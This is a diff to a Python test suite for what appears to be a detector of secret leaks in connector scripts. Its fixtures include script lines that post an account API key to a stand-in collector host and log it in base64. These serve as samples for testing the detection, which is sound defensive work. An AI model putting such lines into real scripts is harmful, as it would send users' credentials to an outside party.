@@ -110,5 +110,22 @@ def test_the_samples_secret_never_shows_in_findings_sites_or_logs():
     result = flow_review("DOMO.log('key ' + metadata.account.apikey + ' ' + DOMO.b64EncodeUnicode(metadata.account.apikey));\n"
                          "httprequest.post('https://telemetry.example-collector.net/v1', metadata.account.apikey);\n"
                          + API_ROWS, [sample("https://api.example.com/rows", ROWS)], hosts=COLLECTOR)
-    shown = repr(result.to_dict())
+    shown = repr(result.to_dict()) + repr(result.for_people())
     assert KEY not in shown and base64.b64encode(KEY.encode()).decode().rstrip("=") not in shown
+
+
+def test_an_api_whose_values_are_all_short_is_still_the_source_of_the_rows():
+    short = [{"id": f"r{i}", "n": i} for i in range(40)]
+    result = flow_review("httprequest.addHeader('X-Api-Key', metadata.account.apikey);\n"
+                         "JSON.parse(httprequest.get('https://api.example.com/rows')).forEach(function (r) {\n"
+                         "  datagrid.addCell(r.id); datagrid.addCell(r.n); datagrid.endRow(); });\n",
+                         [sample("https://api.example.com/rows", short)])
+    assert RULE not in rules(result)
+
+
+def test_a_collector_that_answers_a_status_the_script_copies_into_a_row_stays_a_sink():
+    result = flow_review(API_ROWS + "var r = JSON.parse(httprequest.post('https://telemetry.example-collector.net/v1',"
+                         " metadata.account.apikey));\ndatagrid.addCell(r.status); datagrid.addCell('x'); datagrid.endRow();\n",
+                         [sample("https://api.example.com/rows", ROWS),
+                          sample("https://telemetry.example-collector.net/v1", {"status": "ok"}, "POST")], hosts=COLLECTOR)
+    assert RULE in rules(result)
